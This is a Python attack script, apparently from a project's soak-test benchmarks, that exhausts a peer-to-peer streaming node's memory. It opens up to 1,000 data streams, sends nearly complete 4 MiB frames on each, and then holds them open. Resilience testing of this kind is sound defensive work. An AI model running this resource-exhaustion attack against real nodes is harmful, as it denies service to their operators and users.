"""Unfinished 4 MiB frames on data streams: the subscriber-to-publisher direction.

For each data stream: a valid LinkOpen for the victim's route, then the length prefix of a
frame just under 4 MiB and all of its body but the last byte, and then silence.  A reader that
buffers a frame until it is complete holds nearly 4 MiB per stream.  Opens streams until
``--budget-mb`` of unfinished frames is written (at most the victim's 1,024 links per peer).
"""

from __future__ import annotations

import sys

import trio

from benchmarks.soak_attacks.peer import Report, Target, dndm_session, interest_advert, main

__all__ = ["FRAME", "attack"]

#: Announced length of each unfinished frame, in bytes.
FRAME = 4 * 1024 * 1024 - 64
#: Most data streams opened (the node's default link limit per peer is 1,024).
MAX_STREAMS = 1000


def _varint(n: int) -> bytes:
    out = bytearray()
    while n >= 0x80:
        out.append((n & 0x7F) | 0x80)
        n >>= 7
    out.append(n)
    return bytes(out)


async def attack(target: Target, report: Report) -> None:
    """Open links and leave one almost complete 4 MiB frame on each."""
    from protocols.ids import DATA_PROTOCOL_ID
    from protocols.v1 import common_pb2, control_pb2, data_pb2

    advert = interest_advert(target.route, depth=8, block=False, reliable=False)
    unfinished = _varint(FRAME) + bytes(FRAME - 1)
    async with dndm_session(target, interests=[advert]) as session:
        streams = []
        link_id = 0
        while (link_id + 1) * FRAME <= target.budget_bytes and link_id < MAX_STREAMS:
            link_id += 1
            try:
                stream = await session.open(DATA_PROTOCOL_ID)
                opening = control_pb2.DataFrame(
                    open=data_pb2.LinkOpen(
                        route=target.route,
                        link_id=link_id,
                        qos=common_pb2.QoS(depth=8),
                        initial_credit=8,
                    )
                )
                await session.send(stream, opening)
                await stream.write(unfinished)
            except Exception as exc:
                report.add("streams_failed")
                report.details["last_failure"] = f"{type(exc).__name__}: {exc}"
                continue
            streams.append(stream)
            report.stat = len(streams)
            report.details["bytes_held"] = len(streams) * (FRAME - 1)
        await trio.sleep_forever()


if __name__ == "__main__":
    sys.exit(main("partial_frames", "streams", attack))
